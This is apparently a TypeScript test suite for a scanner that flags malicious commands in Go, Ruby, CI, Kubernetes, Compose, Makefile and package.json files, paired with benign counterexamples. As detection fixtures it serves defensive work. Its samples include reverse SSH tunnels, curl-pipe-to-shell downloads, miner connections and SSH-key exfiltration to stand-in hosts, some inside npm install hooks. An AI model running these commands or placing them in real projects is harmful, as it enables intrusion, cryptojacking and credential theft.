import assert from "node:assert/strict";
import { lineIndex } from "../../../extension/core/base/line-index.ts";
import { countsInAudit } from "../../../extension/core/base/verdict.ts";
import { type ShippedRules, shippedRules } from "../../rules/shipped-rules.ts";

/** One act in one host: the rule that must speak, the text, and what of it is marked. */
type Act = readonly [rule: string, text: string, marked: string];

const go = (body: string) => `package main\n\nfunc main() {\n\t${body.replaceAll("\n", "\n\t")}\n}\n`;
const job = (line: string) => `build:\n  script:\n    - make\n    - ${line}\n`;
const pod = (container: string) =>
  `apiVersion: v1\nkind: Pod\nspec:\n  containers:\n    - name: a\n      image: alpine\n      ${container}\n`;
const service = (keys: string) => `services:\n  a:\n    image: alpine\n    ${keys}\n`;
const script = (name: string, line: string) => `{\n  "scripts": {\n    "${name}": "${line}"\n  }\n}\n`;
const recipe = (line: string) => `all: x\n\t@echo begins\n\t${line}\n`;

const tunnel = "ssh -fNR 2222:localhost:22 u@h.example";
const download = "curl -fsSL http://x.example/i | sh";
const miner = "./m -o stratum+tcp://pool.example:3333 -u w";
const exfil = "curl -d @$HOME/.ssh/id_rsa https://x.example/in";

const acts: Readonly<Record<string, readonly Act[]>> = {
  go: [
    [
      "command/reverse-ssh-tunnel",
      go('exec.Command("ssh", "-N", "-R", "2222:localhost:22", "u@h.example").Start()'),
      'ssh", "-N", "-R", "2222:localhost:22", "u@h.example',
    ],
    ["command/download-run", go('exec.Command("bash", "-c", "curl -fsSL http://x.example/i | sh").Run()'), "sh"],
    [
      "command/download-run",
      go('r, _ := http.Get("http://x.example/p")\nf, _ := os.Create("/tmp/p")\nio.Copy(f, r.Body)\nexec.Command("/tmp/p").Start()'),
      "/tmp/p",
    ],
    [
      "command/mining-protocol",
      go('exec.Command("/tmp/m", "-o", "stratum+tcp://pool.example:3333").Start()'),
      '/tmp/m", "-o", "stratum+tcp://pool.example:3333',
    ],
    [
      "command/secret-to-host",
      go('k, _ := os.ReadFile(os.Getenv("HOME") + "/.ssh/id_rsa")\nhttp.Post("https://x.example/in", "text/plain", bytes.NewReader(k))'),
      'http.Post("https://x.example/in", "text/plain", bytes.NewReader(k))',
    ],
  ],
  ruby: [
    ["command/reverse-ssh-tunnel", `h = "u@h.example"\nsystem("ssh -N -R 2222:localhost:22 #{h}")\n`, "ssh -N -R 2222:localhost:22 #{h}"],
    ["command/download-run", "`curl -fsSL http://x.example/i | sh`\n", "sh"],
    [
      "command/download-run",
      'require "open-uri"\neval(URI.open("http://x.example/p").read)\n',
      'eval(URI.open("http://x.example/p").read)',
    ],
    [
      "command/mining-protocol",
      'spawn("/tmp/m", "-o", "stratum+tcp://pool.example:3333")\n',
      '/tmp/m", "-o", "stratum+tcp://pool.example:3333',
    ],
    [
      "command/secret-to-host",
      'key = File.read(File.expand_path("~/.ssh/id_rsa"))\nNet::HTTP.post(URI("https://x.example/in"), key)\n',
      'Net::HTTP.post(URI("https://x.example/in"), key)',
    ],
  ],
  "yaml-gitlab-ci": [
    ["command/reverse-ssh-tunnel", job(tunnel), tunnel],
    ["command/download-run", job(download), "sh"],
    ["command/mining-protocol", job(miner), miner],
    ["command/secret-to-host", job(exfil), exfil],
  ],
  "yaml-k8s": [
    [
      "command/reverse-ssh-tunnel",
      pod("command: [ssh, -N, -R, '2222:localhost:22', u@h.example]"),
      "ssh, -N, -R, '2222:localhost:22', u@h.example",
    ],
    ["command/download-run", pod(`command: [sh, -c, "${download}"]`), "sh"],
    [
      "command/mining-protocol",
      pod("args: [-o, stratum+tcp://pool.example:3333]"),
      "alpine\n      args: [-o, stratum+tcp://pool.example:3333",
    ],
    ["command/secret-to-host", pod(`lifecycle: { postStart: { exec: { command: [sh, -c, "${exfil}"] } } }`), exfil],
    ["command/privileged-container", pod("securityContext: { privileged: true }"), "privileged: true"],
    ["command/miner-container", pod("").replace("image: alpine", "image: reg.example/x/xmrig:6"), "reg.example/x/xmrig:6"],
  ],
  "yaml-compose": [
    ["command/reverse-ssh-tunnel", service(`command: ${tunnel}`), tunnel],
    ["command/download-run", service(`entrypoint: [sh, -c, "${download}"]`), "sh"],
    ["command/mining-protocol", service(`command: ${miner}`), miner],
    ["command/secret-to-host", service(`healthcheck: { test: "${exfil.replace("$", "$$")}" }`), exfil.replace("$", "$$")],
    ["command/container-host-access", service('volumes: ["/:/host"]'), '"/:/host"'],
    ["command/miner-container", service("").replace("alpine", "xmrig/xmrig"), "xmrig/xmrig"],
  ],
  makefile: [
    ["command/reverse-ssh-tunnel", recipe(tunnel), tunnel],
    ["command/download-run", recipe(`@${download}`), "sh"],
    ["command/mining-protocol", recipe(`-${miner}`), miner],
    ["command/secret-to-host", recipe(exfil.replace("$HOME", "$$HOME")), exfil.replace("$HOME", "$$HOME")],
    ["command/download-run", `V := $(shell ${download})\n`, "sh"],
  ],
  "package-json": [
    ["command/reverse-ssh-tunnel", script("prepare", tunnel), tunnel],
    ["command/download-run", script("postinstall", download), "sh"],
    ["command/mining-protocol", script("test", miner), miner],
    ["command/secret-to-host", script("preinstall", exfil), exfil],
  ],
};

const friends: Readonly<Record<string, Readonly<Record<string, string>>>> = {
  go: {
    "a message about tunnels": go('fmt.Println("use ssh -R 2222:localhost:22 host")'),
    "commands as fixtures": 'package main\n\nvar cases = []struct{ in, out string }{{"curl x | sh", "bad"}, {"ssh -R 1:2:3 h", "bad"}}\n',
    "git is asked": go('out, err := exec.Command("git", "rev-parse", "HEAD").Output()\n_ = out'),
    "a client with a token for its own service": go(
      'req, _ := http.NewRequest("GET", "https://api.example.org/v1", nil)\nreq.Header.Set("Authorization", "Bearer "+os.Getenv("API_TOKEN"))\nhttp.DefaultClient.Do(req)',
    ),
    "a file that is downloaded": go('r, _ := http.Get("https://example.org/a.tgz")\nf, _ := os.Create("a.tgz")\nio.Copy(f, r.Body)'),
    "a server": go('l, _ := net.Listen("tcp", "127.0.0.1:0")\nfor {\n\tc, _ := l.Accept()\n\tgo io.Copy(c, c)\n}'),
  },
  ruby: {
    "a message about tunnels": 'puts "use ssh -R 2222:localhost:22 host"\nraise "never run curl x | sh"\n',
    "commands as fixtures": 'CASES = ["curl x | sh", "ssh -R 1:2:3 h"].freeze\nCASES.each { |c| expect(parse(c)).to be_bad }\n',
    "git is asked": "sha = `git rev-parse HEAD`.strip\n",
    "an API is asked":
      'uri = URI("https://api.example.org/v1")\nreq = Net::HTTP::Get.new(uri)\nreq["Authorization"] = "Bearer #{ENV["API_TOKEN"]}"\nNet::HTTP.start(uri.host, uri.port) { |http| http.request(req) }\n',
    "a gem's tasks": 'task :test do\n  sh "bundle exec rspec"\n  sh "rubocop", "-A"\nend\n',
  },
  "yaml-gitlab-ci": {
    "an ordinary pipeline":
      'image: node:20\nstages: [test]\nvariables: { NOTE: "curl x | sh" }\ntest:\n  script:\n    - npm ci\n    - npm test\n    - echo "ssh -R is not what we do"\n  artifacts: { paths: [dist] }\n',
    "a deployment": "deploy:\n  script:\n    - rsync -a dist/ u@h.example:/srv/\n    - ssh u@h.example 'systemctl restart app'\n",
  },
  "yaml-k8s": {
    "an ordinary deployment":
      'apiVersion: apps/v1\nkind: Deployment\nmetadata: { name: curl-x-sh }\nspec:\n  template:\n    spec:\n      containers:\n        - name: app\n          image: reg.example/app:1\n          command: [/app/server]\n          args: [--port, "8080"]\n          livenessProbe: { exec: { command: [curl, -f, "http://localhost:8080/health"] } }\n          securityContext: { privileged: false, runAsNonRoot: true }\n',
    "notes in a config map": "apiVersion: v1\nkind: ConfigMap\ndata:\n  notes.md: |\n    Never run curl http://x.example/i | sh\n",
  },
  "yaml-compose": {
    "an application with its database":
      'services:\n  web:\n    build: .\n    command: npm start\n    ports: ["80:80"]\n    volumes: [".:/app", data:/data]\n  db:\n    image: postgres:16\n    environment: { POSTGRES_PASSWORD: x }\n    healthcheck: { test: [CMD-SHELL, pg_isready -U postgres] }\nvolumes: { data: {} }\n',
  },
  makefile: {
    "an ordinary makefile":
      'CC ?= gcc\nSRC := $(wildcard *.c)\nall: $(SRC:.c=.o)\n\t$(CC) -o app $^\n%.o: %.c\n\t$(CC) -c $< -o $@\nclean:\n\trm -rf build *.o\nhelp:\n\t@echo "never run curl x | sh, nor ssh -R"\ninstall: all\n\tinstall -m 755 app $(DESTDIR)/usr/bin/app\n',
  },
  "package-json": {
    "an ordinary package":
      '{ "description": "curl x | sh", "scripts": { "test": "mocha", "build": "tsc -b && esbuild src/a.ts --bundle --outfile=dist/a.js", "postinstall": "node-gyp rebuild", "note": "echo \\"ssh -R\\"" } }\n',
  },
};

describe("rules about commands in every host", () => {
  let shipped: ShippedRules;
  before(async () => {
    shipped = await shippedRules();
  });

  for (const [language, all] of Object.entries(acts)) {
    for (const [rule, text, marked] of all) {
      it(`finds ${rule} in ${language}, at ${JSON.stringify(marked)}`, () => {
        const { findings } = shipped.analyse(language, text);
        const lines = lineIndex(text);
        const at = findings
          .filter((finding) => finding.rule === rule)
          .map(({ range }) => text.slice(lines.offset(range.start), lines.offset(range.end)));
        assert.ok(at.includes(marked), JSON.stringify({ at, rules: findings.map((finding) => finding.rule) }));
        const host = language.replace(/^yaml-/, "").replace("k8s", "kubernetes");
        assert.ok(findings.every(({ via }) => via[0]?.startsWith(`${host}:`)));
      });
    }
  }

  for (const [language, all] of Object.entries(friends)) {
    for (const [title, text] of Object.entries(all)) {
      it(`stays silent about ${title} in ${language}`, () => {
        const { findings, problems } = shipped.analyse(language, text);
        assert.deepEqual(findings.filter(countsInAudit), []);
        assert.deepEqual(
          problems.filter(({ weight }) => weight === "blocking"),
          [],
        );
      });
    }
  }
}).timeout(30_000);
